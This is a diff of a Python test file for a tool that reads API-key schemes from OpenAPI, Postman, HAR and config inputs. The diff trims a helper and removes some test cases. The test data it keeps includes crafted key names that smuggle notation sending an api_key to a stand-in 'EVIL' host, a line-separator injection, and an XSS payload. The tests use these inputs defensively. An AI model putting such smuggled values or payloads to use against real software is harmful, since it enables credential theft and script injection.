@@ -29,9 +29,9 @@ def openapi(paths: dict[str, Any], scheme: dict[str, Any], **more: Any) -> dict[
     return {"openapi": "3.0.0", "servers": [{"url": GOOD}], "paths": paths, **required, **more}
 
 
-def named_key(name: str, where: str = "header", **more: Any) -> dict[str, Any]:
-    scheme = {"type": "apiKey", "in": where, "name": name}
-    return openapi({"/items": {"get": {"operationId": "listItems"}}}, scheme, **more)
+def named_key(name: str) -> dict[str, Any]:
+    scheme = {"type": "apiKey", "in": "header", "name": name}
+    return openapi({"/items": {"get": {"operationId": "listItems"}}}, scheme)
 
 
 def postman_key(name: str) -> dict[str, Any]:
@@ -73,10 +73,9 @@ def deliver(bake_fresh: Bake, tmp_path: Path) -> Callable[..., Delivered]:
 
 # What would be notation where it stood between other text.
 TO_A_TOKEN = f'api_key -> token POST https://{EVIL}/t form {{"a": api_key}}'
-NAMES = [f"X-Key, {TO_A_TOKEN}", TO_A_TOKEN, f"X-Key\u2028api_key -> header X-{EVIL}"]
+NAMES = [f"X-Key, {TO_A_TOKEN}", f"X-Key\u2028api_key -> header X-{EVIL}"]
 NAMED: dict[str, Callable[[str], dict[str, Any]]] = {
     "openapi": named_key,
-    "openapi in the query": lambda name: named_key(name, "query"),
     "postman": postman_key,
     "har": har_header,
     "config": config,
@@ -131,7 +130,7 @@ def test_a_scope_that_is_none_is_left_out_and_told(deliver, kind: str):
     assert not {"\x1b", "\u202e"} & set(delivered.printed)
 
 
-HTML = ["<img src=x onerror=alert(1)>", "\n\n<img src=x>\n\n", "`\n\n<img src=x>\n\n`"]
+HTML = ["<img src=x onerror=alert(1)>", "`\n\n<img src=x>\n\n`"]
 
 
 def described(text: str) -> dict[str, Any]:
